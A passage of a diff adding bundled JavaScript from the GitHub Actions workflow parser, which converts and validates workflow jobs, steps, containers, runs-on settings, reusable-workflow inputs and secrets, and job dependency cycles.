+ * @param token The token containing the condition
+ * @param condition The condition string to validate
+ * @returns The validated condition string, or undefined on error
+ */
+function validateRunsIfCondition(context, token, condition) {
+    const allowedContext = token.definitionInfo?.allowedContext || [];
+    // Validate the expression directly - no wrapping needed for pre-if/post-if
+    try {
+        ExpressionToken.validateExpression(condition, allowedContext);
+    }
+    catch (err) {
+        context.error(token, err);
+        return undefined;
+    }
+    return condition;
+}
+//# sourceMappingURL=if-condition.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/container.js
+
+
+function convertToJobContainer(context, container) {
+    let image;
+    let env;
+    let ports;
+    let volumes;
+    let options;
+    // Skip validation for expressions for now to match
+    // behavior of the other parsers
+    for (const [, token] of TemplateToken.traverse(container)) {
+        if (token.isExpression) {
+            return;
+        }
+    }
+    if (isString(container)) {
+        // Workflow uses shorthand syntax `container: image-name`
+        image = container.assertString("container item");
+        return { image: image };
+    }
+    const mapping = container.assertMapping("container item");
+    if (mapping)
+        for (const item of mapping) {
+            const key = item.key.assertString("container item key");
+            const value = item.value;
+            switch (key.value) {
+                case "image":
+                    image = value.assertString("container image");
+                    break;
+                case "credentials":
+                    convertToJobCredentials(context, value);
+                    break;
+                case "env":
+                    env = value.assertMapping("container env");
+                    for (const envItem of env) {
+                        envItem.key.assertString("container env value");
+                    }
+                    break;
+                case "ports":
+                    ports = value.assertSequence("container ports");
+                    for (const port of ports) {
+                        port.assertString("container port");
+                    }
+                    break;
+                case "volumes":
+                    volumes = value.assertSequence("container volumes");
+                    for (const volume of volumes) {
+                        volume.assertString("container volume");
+                    }
+                    break;
+                case "options":
+                    options = value.assertString("container options");
+                    break;
+                default:
+                    context.error(key, `Unexpected container item key: ${key.value}`);
+            }
+        }
+    if (!image) {
+        context.error(container, "Container image cannot be empty");
+    }
+    else {
+        return { image, env, ports, volumes, options };
+    }
+}
+function convertToServiceContainer(context, container) {
+    let image;
+    let env;
+    let ports;
+    let volumes;
+    let options;
+    let entrypoint;
+    let command;
+    // Skip validation for expressions for now to match
+    // behavior of the other parsers
+    for (const [, token] of TemplateToken.traverse(container)) {
+        if (token.isExpression) {
+            return;
+        }
+    }
+    if (isString(container)) {
+        image = container.assertString("container item");
+        return { image: image };
+    }
+    const mapping = container.assertMapping("container item");
+    if (mapping)
+        for (const item of mapping) {
+            const key = item.key.assertString("container item key");
+            const value = item.value;
+            switch (key.value) {
+                case "image":
+                    image = value.assertString("container image");
+                    break;
+                case "credentials":
+                    convertToJobCredentials(context, value);
+                    break;
+                case "env":
+                    env = value.assertMapping("container env");
+                    for (const envItem of env) {
+                        envItem.key.assertString("container env value");
+                    }
+                    break;
+                case "ports":
+                    ports = value.assertSequence("container ports");
+                    for (const port of ports) {
+                        port.assertString("container port");
+                    }
+                    break;
+                case "volumes":
+                    volumes = value.assertSequence("container volumes");
+                    for (const volume of volumes) {
+                        volume.assertString("container volume");
+                    }
+                    break;
+                case "options":
+                    options = value.assertString("container options");
+                    break;
+                case "entrypoint":
+                    entrypoint = value.assertString("container entrypoint");
+                    break;
+                case "command":
+                    command = value.assertString("container command");
+                    break;
+                default:
+                    context.error(key, `Unexpected container item key: ${key.value}`);
+            }
+        }
+    if (!image) {
+        context.error(container, "Container image cannot be empty");
+    }
+    else {
+        return { image, env, ports, volumes, options, entrypoint, command };
+    }
+}
+function convertToJobServices(context, services) {
+    const serviceList = [];
+    const mapping = services.assertMapping("services");
+    for (const service of mapping) {
+        service.key.assertString("service key");
+        const container = convertToServiceContainer(context, service.value);
+        if (container) {
+            serviceList.push(container);
+        }
+    }
+    return serviceList;
+}
+function convertToJobCredentials(context, value) {
+    const mapping = value.assertMapping("credentials");
+    let username;
+    let password;
+    for (const item of mapping) {
+        const key = item.key.assertString("credentials item");
+        const value = item.value;
+        switch (key.value) {
+            case "username":
+                username = value.assertString("credentials username");
+                break;
+            case "password":
+                password = value.assertString("credentials password");
+                break;
+            default:
+                context.error(key, `credentials key ${key.value}`);
+        }
+    }
+    return { username, password };
+}
+//# sourceMappingURL=container.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/id-builder.js
+const SEPARATOR = "_";
+const MAX_ATTEMPTS = 1000;
+const MAX_LENGTH = 100;
+class IdBuilder {
+    constructor() {
+        this.name = [];
+        this.distinctNames = new Set();
+    }
+    appendSegment(value) {
+        if (value.length === 0) {
+            return;
+        }
+        if (this.name.length == 0) {
+            const first = value[0];
+            if (this.isAlpha(first) || first == "_") {
+                // Legal first char
+            }
+            else if (this.isNumeric(first) || first == "-") {
+                // Illegal first char, but legal char.
+                // Prepend "_".
+                this.name.push("_");
+            }
+            else {
+                // Illegal char
+            }
+        }
+        else {
+            // Separator
+            this.name.push(SEPARATOR);
+        }
+        for (const c of value) {
+            {
+                if (this.isAlphaNumeric(c) || c == "_" || c == "-") {
+                    // Legal
+                    this.name.push(c);
+                }
+                else {
+                    // Illegal
+                    this.name.push(SEPARATOR);
+                }
+            }
+        }
+    }
+    build() {
+        const original = this.name.length > 0 ? this.name.join("") : "job";
+        let suffix = "";
+        for (let attempt = 1; attempt < MAX_ATTEMPTS; attempt++) {
+            if (attempt === 1) {
+                suffix = "";
+            }
+            else {
+                suffix = `_${attempt}`;
+            }
+            const candidate = original.substring(0, Math.min(original.length, MAX_LENGTH - suffix.length)) + suffix;
+            if (!this.distinctNames.has(candidate)) {
+                this.distinctNames.add(candidate);
+                this.name = [];
+                return candidate;
+            }
+        }
+        throw new Error("Unable to create a unique name");
+    }
+    /**
+     * Adds a known identifier to the set of distinct ids.
+     * @param value The value to add
+     * @returns An error if the value is invalid, otherwise undefined
+     */
+    tryAddKnownId(value) {
+        if (!value || !this.isValid(value) || value.length >= MAX_LENGTH) {
+            return `The identifier '${value}' is invalid. IDs may only contain alphanumeric characters, '_', and '-'. IDs must start with a letter or '_' and and must be less than ${MAX_LENGTH} characters.`;
+        }
+        if (value.startsWith(SEPARATOR + SEPARATOR)) {
+            return `The identifier '${value}' is invalid. IDs starting with '__' are reserved.`;
+        }
+        if (this.distinctNames.has(value)) {
+            return `The identifier '${value}' may not be used more than once within the same scope.`;
+        }
+        this.distinctNames.add(value);
+        return;
+    }
+    /**
+     * A name is valid if it starts with a letter or underscore, and contains only
+     * letters, numbers, underscores, and hyphens.
+     * @param name The string name to validate
+     * @returns Whether the name is valid
+     */
+    isValid(name) {
+        let first = true;
+        for (const c of name) {
+            if (first) {
+                first = false;
+                if (!this.isAlpha(c) && c != "_") {
+                    return false;
+                }
+                continue;
+            }
+            if (!this.isAlphaNumeric(c) && c != "_" && c != "-") {
+                return false;
+            }
+        }
+        return true;
+    }
+    isAlphaNumeric(c) {
+        return this.isAlpha(c) || this.isNumeric(c);
+    }
+    isNumeric(c) {
+        return c >= "0" && c <= "9";
+    }
+    isAlpha(c) {
+        return (c >= "a" && c <= "z") || (c >= "A" && c <= "Z");
+    }
+}
+//# sourceMappingURL=id-builder.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/job/environment.js
+
+function convertToActionsEnvironmentRef(context, token) {
+    const result = {};
+    if (token.isExpression) {
+        return result;
+    }
+    if (isScalar(token)) {
+        result.name = token;
+        return result;
+    }
+    const environmentMapping = token.assertMapping("job environment");
+    for (const property of environmentMapping) {
+        const propertyName = property.key.assertString("job environment key");
+        if (property.key.isExpression || property.value.isExpression) {
+            continue;
+        }
+        switch (propertyName.value) {
+            case "name":
+                result.name = property.value.assertScalar("job environment name key");
+                break;
+            case "url":
+                result.url = property.value;
+                break;
+            case "deployment": {
+                const deploymentValue = property.value.assertBoolean("job environment deployment");
+                if (deploymentValue.value === false) {
+                    result.skipDeployment = true;
+                }
+                break;
+            }
+        }
+    }
+    return result;
+}
+//# sourceMappingURL=environment.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/job/runs-on.js
+
+function convertRunsOn(context, token) {
+    const labels = convertRunsOnLabels(token);
+    if (!isMapping(token)) {
+        return {
+            labels,
+            group: ""
+        };
+    }
+    let group = "";
+    for (const item of token) {
+        const key = item.key.assertString("job runs-on property name");
+        switch (key.value) {
+            case "group": {
+                if (item.value.isExpression) {
+                    continue;
+                }
+                const groupName = item.value.assertString("job runs-on group name").value;
+                const names = groupName.split("/");
+                switch (names.length) {
+                    case 1: {
+                        group = groupName;
+                        break;
+                    }
+                    case 2: {
+                        if (!["org", "organization", "ent", "enterprise"].includes(names[0])) {
+                            context.error(item.value, `Invalid runs-on group name '${groupName}. Please use 'organization/' or 'enterprise/' prefix to target a single runner group.'`);
+                            continue;
+                        }
+                        if (!names[1]) {
+                            context.error(item.value, `Invalid runs-on group name '${groupName}'.`);
+                            continue;
+                        }
+                        group = groupName;
+                        break;
+                    }
+                    default: {
+                        context.error(item.value, `Invalid runs-on group name '${groupName}. Please use 'organization/' or 'enterprise/' prefix to target a single runner group.'`);
+                        break;
+                    }
+                }
+                break;
+            }
+            case "labels": {
+                const mapLabels = convertRunsOnLabels(item.value);
+                for (const label of mapLabels) {
+                    labels.add(label);
+                }
+                break;
+            }
+        }
+    }
+    return {
+        labels,
+        group
+    };
+}
+function convertRunsOnLabels(token) {
+    const labels = new Set();
+    if (token.isExpression) {
+        return labels;
+    }
+    if (isString(token)) {
+        labels.add(token.value);
+        return labels;
+    }
+    if (isSequence(token)) {
+        for (const item of token) {
+            if (item.isExpression) {
+                continue;
+            }
+            const label = item.assertString("job runs-on label sequence item");
+            labels.add(label.value);
+        }
+    }
+    return labels;
+}
+//# sourceMappingURL=runs-on.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/type-guards.js
+function isRunStep(step) {
+    return step.run !== undefined;
+}
+function isActionStep(step) {
+    return step.uses !== undefined;
+}
+function isJob(job) {
+    return job.type === "job";
+}
+function isReusableWorkflowJob(job) {
+    return job.type === "reusableWorkflowJob";
+}
+//# sourceMappingURL=type-guards.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/steps.js
+
+
+
+
+
+
+function convertSteps(context, steps) {
+    if (!isSequence(steps)) {
+        context.error(steps, "Invalid format for steps");
+        return [];
+    }
+    const idBuilder = new IdBuilder();
+    const knownStepIds = new Set();
+    const result = [];
+    for (const item of steps) {
+        const step = handleTemplateTokenErrors(steps, context, undefined, () => convertStep(context, idBuilder, knownStepIds, item));
+        if (step) {
+            result.push(step);
+        }
+    }
+    for (const step of result) {
+        if (step.id) {
+            continue;
+        }
+        let id = "";
+        if (isActionStep(step)) {
+            id = createActionStepId(step);
+        }
+        else if ("wait" in step) {
+            id = "wait";
+        }
+        else if ("wait-all" in step) {
+            id = "wait-all";
+        }
+        else if ("cancel" in step) {
+            id = "cancel";
+        }
+        else if ("parallel" in step) {
+            id = "parallel";
+        }
+        if (!id) {
+            id = "run";
+        }
+        idBuilder.appendSegment(`__${id}`);
+        step.id = idBuilder.build();
+    }
+    return result;
+}
+function convertStep(context, idBuilder, knownStepIds, step) {
+    const mapping = step.assertMapping("steps item");
+    let run;
+    let id;
+    let name;
+    let uses;
+    let background;
+    let wait;
+    let waitAll;
+    let cancel;
+    let parallel;
+    let continueOnError;
+    let env;
+    let ifCondition;
+    for (const item of mapping) {
+        const key = item.key.assertString("steps item key");
+        switch (key.value) {
+            case "id":
+                id = item.value.assertString("steps item id");
+                if (id) {
+                    const error = idBuilder.tryAddKnownId(id.value);
+                    if (error) {
+                        context.error(id, error);
+                    }
+                    else {
+                        knownStepIds.add(id.value);
+                    }
+                }
+                break;
+            case "name":
+                name = item.value.assertScalar("steps item name");
+                break;
+            case "run":
+                run = item.value.assertScalar("steps item run");
+                break;
+            case "uses":
+                uses = item.value.assertString("steps item uses");
+                break;
+            case "background":
+                background = item.value.assertBoolean("steps item background").value;
+                break;
+            case "wait":
+                wait = convertWaitTargets(context, knownStepIds, item.value, id);
+                break;
+            case "wait-all":
+                waitAll = convertWaitAllValue(context, item.value);
+                break;
+            case "cancel":
+                cancel = item.value.assertString("steps item cancel");
+                validateTargetStepId(context, knownStepIds, cancel, id);
+                break;
+            case "parallel":
+                parallel = item.value;
+                break;
+            case "env":
+                env = item.value.assertMapping("step env");
+                break;
+            case "if":
+                ifCondition = convertToIfCondition(context, item.value);
+                break;
+            case "continue-on-error":
+                if (!item.value.isExpression) {
+                    continueOnError = item.value.assertBoolean("steps item continue-on-error").value;
+                }
+                else {
+                    continueOnError = item.value.assertScalar("steps item continue-on-error");
+                }
+        }
+    }
+    if (run) {
+        return {
+            id: id?.value || "",
+            name,
+            if: ifCondition || new BasicExpressionToken(undefined, undefined, "success()", undefined, undefined, undefined),
+            "continue-on-error": continueOnError,
+            env,
+            run,
+            background
+        };
+    }
+    if (uses) {
+        return {
+            id: id?.value || "",
+            name,
+            if: ifCondition || new BasicExpressionToken(undefined, undefined, "success()", undefined, undefined, undefined),
+            "continue-on-error": continueOnError,
+            env,
+            uses,
+            background
+        };
+    }
+    if (wait) {
+        return {
+            id: id?.value || "",
+            name: name || createSyntheticStepName("Wait"),
+            "continue-on-error": continueOnError,
+            wait
+        };
+    }
+    if (waitAll !== undefined) {
+        return {
+            id: id?.value || "",
+            name: name || createSyntheticStepName("Wait for all"),
+            "continue-on-error": continueOnError,
+            "wait-all": waitAll
+        };
+    }
+    if (cancel) {
+        return {
+            id: id?.value || "",
+            name: name || createSyntheticStepName("Cancel"),
+            "continue-on-error": continueOnError,
+            cancel
+        };
+    }
+    if (parallel) {
+        const parallelSteps = convertSteps(context, parallel);
+        // Validate: parallel blocks only allow run and uses steps
+        for (const ps of parallelSteps) {
+            if ("background" in ps && ps.background !== undefined) {
+                context.error(step, "'background' is not allowed inside a parallel block. Steps in a parallel block are automatically run as background steps.");
+            }
+            if ("wait" in ps) {
+                context.error(step, "'wait' is not allowed inside a parallel block.");
+            }
+            if ("wait-all" in ps) {
+                context.error(step, "'wait-all' is not allowed inside a parallel block.");
+            }
+            if ("cancel" in ps) {
+                context.error(step, "'cancel' is not allowed inside a parallel block.");
+            }
+            if ("parallel" in ps) {
+                context.error(step, "Nested 'parallel' blocks are not allowed.");
+            }
+        }
+        return {
+            id: id?.value || "",
+            name: name || createSyntheticStepName("Parallel group"),
+            parallel: parallelSteps
+        };
+    }
+    context.error(step, context.state.featureFlags?.isEnabled("allowBackgroundSteps")
+        ? "Expected one of uses, run, wait, wait-all, cancel, or parallel to be defined"
+        : "Expected one of uses or run to be defined");
+}
+function createActionStepId(step) {
+    const uses = step.uses.value;
+    if (uses.startsWith("docker://")) {
+        return uses.substring("docker://".length);
+    }
+    if (uses.startsWith("./") || uses.startsWith(".\\")) {
+        return "self";
+    }
+    // Self repository reference ($/path): resolved from the same repository as the executing
+    // workflow/action.
+    if (uses.startsWith("$/")) {
+        return "self";
+    }
+    const segments = uses.split("@");
+    if (segments.length != 2) {
+        return "";
+    }
+    const pathSegments = segments[0].split(/[\\/]/).filter(s => s.length > 0);
+    const gitRef = segments[1];
+    if (pathSegments.length >= 2 && pathSegments[0] && pathSegments[1] && gitRef) {
+        return `${pathSegments[0]}/${pathSegments[1]}`;
+    }
+    return "";
+}
+function createSyntheticStepName(value) {
+    return new StringToken(undefined, undefined, value, undefined, undefined, undefined);
+}
+function convertWaitTargets(context, knownStepIds, token, ownStepId) {
+    if (token instanceof StringToken) {
+        validateTargetStepId(context, knownStepIds, token, ownStepId);
+        return [token];
+    }
+    const sequence = token.assertSequence("steps item wait");
+    const targets = [];
+    for (let i = 0; i < sequence.count; i++) {
+        const target = sequence.get(i).assertString("steps item wait item");
+        validateTargetStepId(context, knownStepIds, target, ownStepId);
+        targets.push(target);
+    }
+    return targets;
+}
+function convertWaitAllValue(context, token) {
+    if (token instanceof NullToken) {
+        return true;
+    }
+    const value = token.assertBoolean("steps item wait-all").value;
+    if (!value) {
+        context.error(token, "The value of 'wait-all' must be true or omitted");
+    }
+    return true;
+}
+function validateTargetStepId(context, knownStepIds, target, ownStepId) {
+    if (target.value.startsWith("__")) {
+        context.error(target, `The identifier '${target.value}' is invalid. IDs starting with '__' are reserved.`);
+    }
+    else if (ownStepId && target.value.toLowerCase() === ownStepId.value.toLowerCase()) {
+        context.error(target, `Step '${ownStepId.value}' cannot reference itself`);
+    }
+    else if (!knownStepIds.has(target.value)) {
+        context.error(target, `Step references unknown step ID '${target.value}'`);
+    }
+}
+//# sourceMappingURL=steps.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/job.js
+
+
+
+
+
+
+
+
+
+
+function convertJob(context, jobKey, token) {
+    const error = new IdBuilder().tryAddKnownId(jobKey.value);
+    if (error) {
+        context.error(jobKey, error);
+    }
+    let concurrency, container, env, environment, ifCondition, name, outputs, runsOn, services, strategy, snapshot;
+    let needs = undefined;
+    let steps = [];
+    let workflowJobRef;
+    let workflowJobInputs;
+    let inheritSecrets = false;
+    let workflowJobSecrets;
+    for (const item of token) {
+        const propertyName = item.key.assertString("job property name");
+        switch (propertyName.value) {
+            case "concurrency":
+                handleTemplateTokenErrors(item.value, context, undefined, () => convertConcurrency(context, item.value));
+                concurrency = item.value;
+                break;
+            case "container":
+                convertToJobContainer(context, item.value);
+                container = item.value;
+                break;
+            case "env":
+                handleTemplateTokenErrors(item.value, context, undefined, () => {
+                    env = item.value.assertMapping("job env");
+                });
+                break;
+            case "environment":
+                handleTemplateTokenErrors(item.value, context, undefined, () => convertToActionsEnvironmentRef(context, item.value));
+                environment = item.value;
+                break;
+            case "if":
+                ifCondition = convertToIfCondition(context, item.value);
+                break;
+            case "name":
+                name = item.value.assertScalar("job name");
+                break;
+            case "needs": {
+                needs = [];
+                if (isString(item.value)) {
+                    const jobNeeds = item.value.assertString("job needs id");
+                    needs.push(jobNeeds);
+                }
+                if (isSequence(item.value)) {
+                    for (const seqItem of item.value) {
+                        const jobNeeds = seqItem.assertString("job needs id");
+                        needs.push(jobNeeds);
+                    }
+                }
+                break;
+            }
+            case "outputs":
+                handleTemplateTokenErrors(item.value, context, undefined, () => {
+                    outputs = item.value.assertMapping("job outputs");
+                });
+                break;
+            case "runs-on":
+                handleTemplateTokenErrors(item.value, context, undefined, () => convertRunsOn(context, item.value));
+                runsOn = item.value;
+                break;
+            case "services":
+                convertToJobServices(context, item.value);
+                services = item.value;
+                break;
+            case "snapshot":
+                snapshot = item.value;
+                break;
+            case "steps":
+                steps = convertSteps(context, item.value);
+                break;
+            case "strategy":
+                strategy = item.value;
+                break;
+            case "uses":
+                workflowJobRef = item.value.assertString("job uses value");
+                break;
+            case "with":
+                handleTemplateTokenErrors(item.value, context, undefined, () => {
+                    workflowJobInputs = item.value.assertMapping("uses-with value");
+                });
+                break;
+            case "secrets":
+                if (isString(item.value) && item.value.value === "inherit") {
+                    inheritSecrets = true;
+                }
+                else {
+                    handleTemplateTokenErrors(item.value, context, undefined, () => {
+                        workflowJobSecrets = item.value.assertMapping("uses-secrets value");
+                    });
+                }
+                break;
+        }
+    }
+    if (workflowJobRef !== undefined) {
+        return {
+            type: "reusableWorkflowJob",
+            id: jobKey,
+            name: jobName(name, jobKey),
+            needs: needs || [],
+            if: ifCondition || new BasicExpressionToken(undefined, undefined, "success()", undefined, undefined, undefined),
+            ref: workflowJobRef,
+            "input-definitions": undefined,
+            "input-values": workflowJobInputs,
+            "secret-definitions": undefined,
+            "secret-values": workflowJobSecrets,
+            "inherit-secrets": inheritSecrets || undefined,
+            outputs: undefined,
+            concurrency,
+            strategy
+        };
+    }
+    else {
+        return {
+            type: "job",
+            id: jobKey,
+            name: jobName(name, jobKey),
+            needs,
+            if: ifCondition || new BasicExpressionToken(undefined, undefined, "success()", undefined, undefined, undefined),
+            env,
+            concurrency,
+            environment,
+            strategy,
+            "runs-on": runsOn,
+            container,
+            services,
+            outputs,
+            steps,
+            snapshot
+        };
+    }
+}
+function jobName(name, jobKey) {
+    if (name === undefined) {
+        return jobKey;
+    }
+    if (isString(name) && name.value === "") {
+        return jobKey;
+    }
+    return name;
+}
+//# sourceMappingURL=job.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/jobs.js
+
+
+
+function convertJobs(context, token) {
+    if (isMapping(token)) {
+        const result = [];
+        const jobsWithSatisfiedNeeds = [];
+        const alljobsWithUnsatisfiedNeeds = [];
+        for (const item of token) {
+            const jobKey = item.key.assertString("job name");
+            const jobDef = item.value.assertMapping(`job ${jobKey.value}`);
+            const job = handleTemplateTokenErrors(token, context, undefined, () => convertJob(context, jobKey, jobDef));
+            if (job) {
+                result.push(job);
+                const node = {
+                    name: job.id.value,
+                    needs: Object.assign([], job.needs)
+                };
+                if (node.needs.length > 0) {
+                    alljobsWithUnsatisfiedNeeds.push(node);
+                }
+                else {
+                    jobsWithSatisfiedNeeds.push(node);
+                }
+            }
+        }
+        //validate job needs
+        validateNeeds(token, context, result, jobsWithSatisfiedNeeds, alljobsWithUnsatisfiedNeeds);
+        return result;
+    }
+    context.error(token, "Invalid format for jobs");
+    return [];
+}
+function validateNeeds(token, context, result, jobsWithSatisfiedNeeds, alljobsWithUnsatisfiedNeeds) {
+    if (jobsWithSatisfiedNeeds.length == 0) {
+        context.error(token, "The workflow must contain at least one job with no dependencies.");
+        return;
+    }
+    // Figure out which nodes would start after current completes
+    while (jobsWithSatisfiedNeeds.length > 0) {
+        const currentJob = jobsWithSatisfiedNeeds.shift();
+        if (currentJob == undefined) {
+            break;
+        }
+        for (let i = alljobsWithUnsatisfiedNeeds.length - 1; i >= 0; i--) {
+            const unsatisfiedJob = alljobsWithUnsatisfiedNeeds[i];
+            for (let j = unsatisfiedJob.needs.length - 1; j >= 0; j--) {
+                const need = unsatisfiedJob.needs[j];
+                if (need.value == currentJob.name) {
+                    unsatisfiedJob.needs.splice(j, 1);
+                    if (unsatisfiedJob.needs.length == 0) {
+                        jobsWithSatisfiedNeeds.push(unsatisfiedJob);
+                        alljobsWithUnsatisfiedNeeds.splice(i, 1);
+                    }
+                }
+            }
+        }
+    }
+    // Check whether some jobs will never execute
+    if (alljobsWithUnsatisfiedNeeds.length > 0) {
+        const jobNames = result.map(x => x.id.value);
+        for (const unsatisfiedJob of alljobsWithUnsatisfiedNeeds) {
+            for (const need of unsatisfiedJob.needs) {
+                if (jobNames.includes(need.value)) {
+                    context.error(need, `Job '${unsatisfiedJob.name}' depends on job '${need.value}' which creates a cycle in the dependency graph.`);
+                }
+                else {
+                    context.error(need, `Job '${unsatisfiedJob.name}' depends on unknown job '${need.value}'.`);
+                }
+            }
+        }
+    }
+}
+//# sourceMappingURL=jobs.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/job/inputs.js
+function convertWorkflowJobInputs(context, job) {
+    const inputDefinitions = createTokenMap(job["input-definitions"]?.assertMapping("workflow job input definitions"), "inputs");
+    const inputValues = createTokenMap(job["input-values"]?.assertMapping("workflow job input values"), "with");
+    if (inputDefinitions !== undefined) {
+        for (const [, [name, value]] of inputDefinitions) {
+            const inputSpec = createTokenMap(value.assertMapping(`input ${name}`), `input ${name} key`);
+            const inputTypeToken = inputSpec?.get("type")?.[1];
+            if (!inputTypeToken) {
+                // This should be validated by the template reader per the schema
+                continue;
+            }
+            const inputSet = inputValues !== undefined && inputValues.has(name.toLowerCase());
+            const required = inputSpec.get("required")?.[1].assertBoolean(`input ${name} required`).value;
+            if (required && !inputSet) {
+                context.error(job.ref, `Input ${name} is required, but not provided while calling.`);
+            }
+        }
+    }
+    if (inputValues !== undefined) {
+        for (const [, [name, value]] of inputValues) {
+            if (!inputDefinitions?.has(name.toLowerCase())) {
+                context.error(value, `Invalid input, ${name} is not defined in the referenced workflow.`);
+            }
+        }
+    }
+}
+function createTokenMap(mapping, description) {
+    if (!mapping) {
+        return undefined;
+    }
+    const result = new Map();
+    for (const item of mapping) {
+        const name = item.key.assertString(`${description} key`);
+        result.set(name.value.toLowerCase(), [name.value, item.value]);
+    }
+    return result;
+}
+//# sourceMappingURL=inputs.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/job/secrets.js
+
+
+function convertWorkflowJobSecrets(context, job) {
+    // No validation if job passes all secrets
+    if (job["inherit-secrets"]) {
+        return;
+    }
+    const secretDefinitions = createTokenMap(job["secret-definitions"]?.assertMapping("workflow job secret definitions"), "secrets");
+    const secretValues = createTokenMap(job["secret-values"]?.assertMapping("workflow job secret values"), "secrets");
+    if (secretDefinitions !== undefined) {
+        for (const [, [name, value]] of secretDefinitions) {
+            if (value instanceof NullToken) {
+                continue;
+            }
+            const secretSpec = createTokenMap(value.assertMapping(`secret ${name}`), `secret ${name} key`);
+            const required = secretSpec?.get("required")?.[1].assertBoolean(`secret ${name} required`).value;
+            if (required) {
+                if (secretValues == undefined || !secretValues.has(name.toLowerCase())) {
+                    context.error(job.ref, `Secret ${name} is required, but not provided while calling.`);
+                }
+            }
+        }
+    }
+    if (secretValues !== undefined) {
+        for (const [, [name, value]] of secretValues) {
+            if (!secretDefinitions?.has(name.toLowerCase())) {
+                context.error(value, `Invalid secret, ${name} is not defined in the referenced workflow.`);
+            }
+        }
+    }
+}
+//# sourceMappingURL=secrets.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/referencedWorkflow.js
+
+
+
+
+
+function convertReferencedWorkflow(context, referencedWorkflow, job) {
+    const mapping = referencedWorkflow.assertMapping("root");
+    // The language service doesn't currently handles on other documents,
+    // So use the ref in the original workflow as the error location
+    const tokenForErrors = job.ref;
+    for (const pair of mapping) {
+        const key = pair.key.assertString("root key");
+        switch (key.value) {
+            case "on": {
+                handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertReferencedWorkflowOn(context, pair.value, job));
+                break;
+            }
+            case "jobs": {
+                job.jobs = handleTemplateTokenErrors(tokenForErrors, context, [], () => convertJobs(context, pair.value));
+                break;
+            }
+        }
+    }
+}
+function convertReferencedWorkflowOn(context, on, job) {
+    const tokenForErrors = job.ref;
+    switch (on.templateTokenType) {
+        case types_TokenType.String: {
+            const event = on.assertString("Reference workflow on value").value;
+            if (event === "workflow_call") {
+                handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobInputs(context, job));
+                handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobSecrets(context, job));
+                return;
+            }
+            break;
+        }
+        case types_TokenType.Sequence: {
+            const events = on.assertSequence("Reference workflow on value");
+            for (const eventToken of events) {
+                const event = eventToken.assertString(`Reference workflow on value ${eventToken}`).value;
+                if (event === "workflow_call") {
+                    handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobInputs(context, job));
+                    handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobSecrets(context, job));
+                    return;
+                }
+            }
+            break;
+        }
+        case types_TokenType.Mapping: {
+            const eventMapping = on.assertMapping("Reference workflow on value");
+            for (const pair of eventMapping) {
+                const event = pair.key.assertString(`Reference workflow on value ${pair.key}`).value;
+                if (event !== "workflow_call") {
+                    continue;
+                }
+                if (pair.value.templateTokenType === types_TokenType.Null) {
+                    handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobInputs(context, job));
+                    handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobSecrets(context, job));
+                    return;
+                }
+                const definitions = pair.value.assertMapping(`Reference workflow on value ${pair.key}`);
+                for (const definition of definitions) {
+                    const definitionKey = definition.key.assertString(`on-workflow_call-${definition.key}`).value;
+                    switch (definitionKey) {
+                        case "inputs":
+                            job["input-definitions"] = definition.value.assertMapping(`on-workflow_call-${definition.key}`);
+                            break;
+                        case "outputs":
+                            job.outputs = definition.value.assertMapping(`on-workflow_call-${definition.key}`);
+                            break;
+                        case "secrets":
+                            job["secret-definitions"] = definition.value.assertMapping(`on-workflow_call-${definition.key}`);
+                            break;
+                    }
+                }
+                handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobInputs(context, job));
+                handleTemplateTokenErrors(tokenForErrors, context, undefined, () => convertWorkflowJobSecrets(context, job));
+                return;
+            }
+            break;
+        }
+    }
+    context.error(tokenForErrors, "workflow_call key is not defined in the referenced workflow.");
+}
+//# sourceMappingURL=referencedWorkflow.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/convert.js
+
+
+
+
+
+
+
+
+
+
+var ErrorPolicy;
+(function (ErrorPolicy) {
+    ErrorPolicy[ErrorPolicy["ReturnErrorsOnly"] = 0] = "ReturnErrorsOnly";
+    ErrorPolicy[ErrorPolicy["TryConversion"] = 1] = "TryConversion";
+})(ErrorPolicy || (ErrorPolicy = {}));
+const defaultOptions = {
+    maxReusableWorkflowDepth: 4,
+    fetchReusableWorkflowDepth: 0,
+    errorPolicy: ErrorPolicy.ReturnErrorsOnly,
+    featureFlags: new features_FeatureFlags()
+};
+async function convertWorkflowTemplate(context, root, fileProvider, options = defaultOptions) {
+    const result = {};
+    const opts = getOptionsWithDefaults(options);
+    context.state.featureFlags = opts.featureFlags;
+    if (context.errors.getErrors().length > 0 && opts.errorPolicy === ErrorPolicy.ReturnErrorsOnly) {
+        result.errors = context.errors.getErrors().map(x => ({
+            Message: x.message
+        }));
+        return result;
+    }
+    if (fileProvider === undefined && opts.fetchReusableWorkflowDepth > 0) {
+        context.error(root, new Error("A file provider is required to fetch reusable workflows"));
+    }
+    try {
+        const rootMapping = root.assertMapping("root");
+        for (const item of rootMapping) {
+            const key = item.key.assertString("root key");
+            switch (key.value) {
+                case "on":
+                    result.events = handleTemplateTokenErrors(root, context, {}, () => convertOn(context, item.value));
+                    break;
+                case "jobs":
+                    result.jobs = handleTemplateTokenErrors(root, context, [], () => convertJobs(context, item.value));
+                    break;
